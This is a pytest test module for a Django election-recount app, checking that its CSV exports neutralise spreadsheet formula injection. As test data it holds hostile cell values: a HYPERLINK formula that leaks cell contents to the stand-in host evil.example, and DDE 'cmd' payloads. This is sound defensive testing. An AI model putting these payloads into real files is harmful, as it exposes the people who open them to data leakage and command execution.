"""Every CSV file the desk writes goes through one writer (`recounts.exports.csv_text`), which keeps a
spreadsheet from reading a cell as a formula (OWASP, “CSV injection”): names and notes are typed by
people, and staff open these files in a spreadsheet. Issue 13, finding 6."""

import csv
import io
from decimal import Decimal

import pytest
from django.conf import settings
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from elections.models import Candidate
from recounts.exports import FORMULA_STARTS, csv_text
from recounts.models import RecountRequest, RecountTally
from recounts.reports import discrepancies, discrepancy_csv
from tests.recounts.test_reports import (  # noqa: F401 (fixtures, asked for with `getfixturevalue`)
    atlanta_recounted,
    case,
)

pytestmark = pytest.mark.django_db

HOSTILE_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Keisha Lance Bottoms")'
HOSTILE_ELECTION = "+Atlanta Mayoral Runoff 2017"
HOSTILE_NOTES = ("+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)")


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),  # text that looks like a negative number is still text a person typed
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),  # some spreadsheets drop the leading spaces
        ("Mary Norwood", "Mary Norwood"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (-6, "-6"),  # a number is written as a number: a difference, not a formula
        (42_881, "42881"),
        (Decimal("-0.899"), "-0.899"),
    ],
)
def test_a_cell_a_spreadsheet_would_read_as_a_formula_is_written_as_text(cell, written):
    assert rows_of(csv_text(("cell",), [[cell]])) == [["cell"], [written]]


def test_a_header_is_made_safe_too():
    assert rows_of(csv_text(("=county",), [])) == [["'=county"]]


def test_a_discrepancy_csv_writes_hostile_names_and_notes_as_text_and_differences_as_numbers(request, bottoms, norwood):
    # The names as entered before the request is filed (the request keeps a snapshot of them).
    bottoms.name = HOSTILE_NAME
    bottoms.save()
    norwood.name = "-Mary Norwood"
    norwood.save()
    recounted = request.getfixturevalue("atlanta_recounted")
    bottoms_line, norwood_line = RecountTally.objects.filter(
        county_recount__request=recounted, county_recount__county__name="Fulton"
    ).order_by("candidate__ballot_order")
    bottoms_line.note = "=cmd|' /C calc'!A0"
    bottoms_line.save()
    norwood_line.note = "@SUM(A1:A9)"
    norwood_line.save()

    assert rows_of(discrepancy_csv(discrepancies(recounted))) == [
        ["county", "candidate", "vote_type", "line", "original", "recounted", "difference", "reason", "note"],
        ["Fulton", f"'{HOSTILE_NAME}", "unspecified", "returns", "42887", "42881", "-6", "scanner_misread",
         "'=cmd|' /C calc'!A0"],
        ["Fulton", "'-Mary Norwood", "unspecified", "returns", "40668", "40673", "5", "ballots_missed",
         "'@SUM(A1:A9)"],
    ]  # fmt: skip


def _csv_routes(patterns: list, prefix: str = "") -> set[str]:
    """The names of every URL of the site whose route ends in “.csv”."""
    found = set()
    for pattern in patterns:
        namespace = (
            f"{prefix}{pattern.namespace}:" if isinstance(pattern, URLResolver) and pattern.namespace else prefix
        )
        if isinstance(pattern, URLResolver):
            found |= _csv_routes(pattern.url_patterns, namespace)
        elif isinstance(pattern, URLPattern) and str(pattern.pattern).endswith(".csv"):
            found.add(f"{prefix}{pattern.name}")
    return found


def test_the_desk_writes_csv_only_through_the_one_writer():
    """No module but `recounts/exports.py` makes a CSV writer of its own (views, reports, the admin,
    management commands), and the site's CSV files are the two tested below."""
    writers = sorted(
        str(path.relative_to(settings.BASE_DIR))
        for app in ("accounts", "config", "elections", "recounts")
        for path in (settings.BASE_DIR / app).rglob("*.py")
        if "csv.writer" in path.read_text() or "csv.DictWriter" in path.read_text()
    )
    assert writers == ["recounts/exports.py"]
    assert _csv_routes(get_resolver().url_patterns) == {"recounts:dashboard_csv", "recounts:discrepancies_csv"}


def _hostile(request: pytest.FixtureRequest, bottoms: Candidate) -> RecountRequest:
    """The case with text people type, each beginning as a formula: a candidate's name (as entered before
    the request is filed), the notes of a worksheet's lines, the election's name (on the board)."""
    bottoms.name = HOSTILE_NAME
    bottoms.save()
    recounted = request.getfixturevalue("atlanta_recounted")
    for line, note in zip(
        RecountTally.objects.filter(county_recount__request=recounted, county_recount__county__name="Fulton").order_by(
            "pk"
        ),
        HOSTILE_NOTES,
        strict=False,
    ):
        line.note = note
        line.save()
    election = recounted.contest.election
    election.name = HOSTILE_ELECTION
    election.save()
    return recounted


def _numeric(cell: str) -> bool:
    try:
        int(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    ("client_name", "url_name", "neutralised"),
    [
        (
            "fulton_client",
            "recounts:discrepancies_csv",
            {f"'{HOSTILE_NAME}", *(f"'{note}" for note in HOSTILE_NOTES[:2])},
        ),
        ("sos_client", "recounts:dashboard_csv", {f"'{HOSTILE_ELECTION}"}),
    ],
)
def test_no_cell_of_any_csv_the_site_gives_out_starts_a_formula(request, bottoms, client_name, url_name, neutralised):
    recounted = _hostile(request, bottoms)
    client = request.getfixturevalue(client_name)
    url = reverse(url_name, args=[recounted.pk] if url_name == "recounts:discrepancies_csv" else [])

    response = client.get(url)

    assert (response.status_code, response["Content-Type"]) == (200, "text/csv; charset=utf-8")
    cells = {cell for row in rows_of(response.content.decode()) for cell in row}
    assert {cell for cell in cells if cell.lstrip().startswith(FORMULA_STARTS) and not _numeric(cell)} == set()
    assert {cell for cell in cells if cell.startswith("'")} == neutralised
